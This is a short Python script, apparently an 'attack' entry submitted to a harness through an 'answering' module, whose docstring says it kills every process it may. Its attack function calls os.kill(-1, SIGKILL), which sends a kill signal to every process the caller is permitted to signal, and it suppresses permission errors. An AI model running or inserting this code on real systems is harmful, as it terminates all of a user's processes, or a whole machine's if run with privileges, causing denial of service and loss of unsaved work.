"""Kills every process that it may."""

import os
import signal
from contextlib import suppress

from answering import answer


def attack(_: str) -> None:
    with suppress(PermissionError, ProcessLookupError):
        os.kill(-1, signal.SIGKILL)


answer(attack)
